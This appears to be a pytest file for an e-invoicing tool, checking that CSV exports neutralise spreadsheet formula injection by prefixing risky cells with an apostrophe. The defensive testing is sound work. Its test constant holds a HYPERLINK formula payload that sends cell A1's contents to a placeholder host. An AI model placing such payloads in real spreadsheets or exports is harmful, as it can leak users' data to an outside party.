"""CSV for spreadsheets: what people wrote is never worked out as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from einvoiced.actions.export_tracks import export_tracks
from einvoiced.cli import find, reports
from einvoiced.spreadsheet import to_csv
from tests.boxes import Desk

PERIL = '=HYPERLINK("http://x/?"&A1,"王")'


def cells(text: str) -> list[list[str]]:
    """The cells as a reader of CSV has them."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "value", [PERIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1"]
)
def test_a_text_that_begins_like_a_formula_is_defused(value: str) -> None:
    """By an apostrophe; what stands behind it is as it was."""
    assert cells(to_csv(["a"], [[value]])) == [["a"], [f"'{value}"]]


def test_other_cells_are_as_they_are() -> None:
    """Numbers below 0, carriers with a plus, ids with zeros in front, commas and quotation marks, nothing."""
    row = [-5, 0, "/AB+1234", "04595257", "a=1", '王,"李"', None, ""]
    wanted = ["-5", "0", "/AB+1234", "04595257", "a=1", '王,"李"', "", ""]
    assert cells(to_csv(["x"] * 8, [row]))[1] == wanted


def test_a_tills_labels_are_defused_where_they_are_listed() -> None:
    """In the list of invoices, and as groups of a report; both begin with the mark by which Excel knows UTF-8."""
    invoice: dict[str, Any] = {"invoice_number": "NQ00000001", "total_amount": 25, "labels": {"order_no": PERIL}}
    listed = find.as_csv(("invoice_number", "order_no", "total_amount"), [find._flat(invoice)])
    assert listed.startswith("\ufeff")
    assert cells(listed[1:])[1] == ["NQ00000001", f"'{PERIL}", "25"]
    sums = {part: {"count": 1, "total_amount": -25} for part in ("valid", "cancelled", "allowances")}
    row = reports._flat({"group": {"till": "-1"}, **sums, "net_total": -25})
    assert cells(find.as_csv(("till", "net_total"), [row])[1:])[1] == ["'-1", "-25"]


def test_the_list_of_tracks_is_defused_too(desk: Desk) -> None:
    """Its columns are ours, but for the name that somebody gave this box."""
    desk.take(("NQ", 0, 49))
    desk.box.id = "=1+1"
    listed = desk.call(export_tracks(desk.box, "11502", "csv", "王店長", None))
    head, line = cells(listed.content)
    assert (line[head.index("主機")], line[head.index("發票起號")]) == ("'=1+1", "00000000")
